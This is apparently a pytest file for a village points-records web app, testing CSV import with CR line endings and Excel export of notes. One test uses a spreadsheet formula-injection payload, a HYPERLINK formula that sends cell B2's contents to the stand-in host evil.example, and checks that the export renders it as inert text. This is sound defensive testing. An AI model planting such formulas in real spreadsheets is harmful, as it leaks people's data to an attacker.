"""Points records through files: a CSV saved with CR line endings imports (it was a 500), and a
note typed as a formula goes out in the Excel report as text, not as a live formula."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from gongchuang.points import service
from gongchuang.points.models import PointRecord
from tests.conftest import api_token, login
from tests.points.conftest import PointsWorld

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"积分明细")'


def test_a_cr_only_csv_imports_and_a_formula_note_is_exported_as_text(
    client, session: Session, pw: PointsWorld
) -> None:
    today = service.today_local().isoformat()
    quoted = '"' + HYPERLINK.replace('"', '""') + '"'
    body = f"手机号,规则编号,日期,备注\r{pw.villager.phone},GY02,{today},{quoted}\r".encode()
    cadre = api_token(client, pw.cadre.phone, ["read", "points.record"])
    imported = client.post(
        f"/api/v1/points/villages/{pw.village.id}/records/import",
        files={"file": ("records.csv", body)},
        headers=cadre,
    )
    assert imported.status_code == 201, imported.text
    assert [r["note"] for r in imported.json()] == [HYPERLINK]

    login(client, pw.cadre.phone)
    exported = client.get(
        f"/points/villages/{pw.village.id}/records.xlsx", params={"year": today[:4]}
    )
    assert exported.status_code == 200
    sheet_xml = zipfile.ZipFile(io.BytesIO(exported.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml  # no cell of the report is a formula
    sheet = load_workbook(io.BytesIO(exported.content)).active
    note = next(c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK)
    assert (note.data_type, note.quotePrefix) == ("s", True)


def test_a_cr_only_csv_with_bad_rows_is_a_422_naming_line_and_phone(
    client, session: Session, pw: PointsWorld
) -> None:
    today = service.today_local().isoformat()
    body = f"手机号,规则编号,日期\r{pw.villager.phone},GY02,{today}\r13999999999,GY02,{today}\r"
    cadre = api_token(client, pw.cadre.phone, ["read", "points.record"])
    refused = client.post(
        f"/api/v1/points/villages/{pw.village.id}/records/import",
        files={"file": ("records.csv", body.encode("gb18030"))},
        headers=cadre,
    )
    assert refused.status_code == 422
    assert [(e["line"], e["id"]) for e in refused.json()["errors"]] == [(3, "13999999999")]
    assert session.scalar(select(func.count(PointRecord.id))) == 0
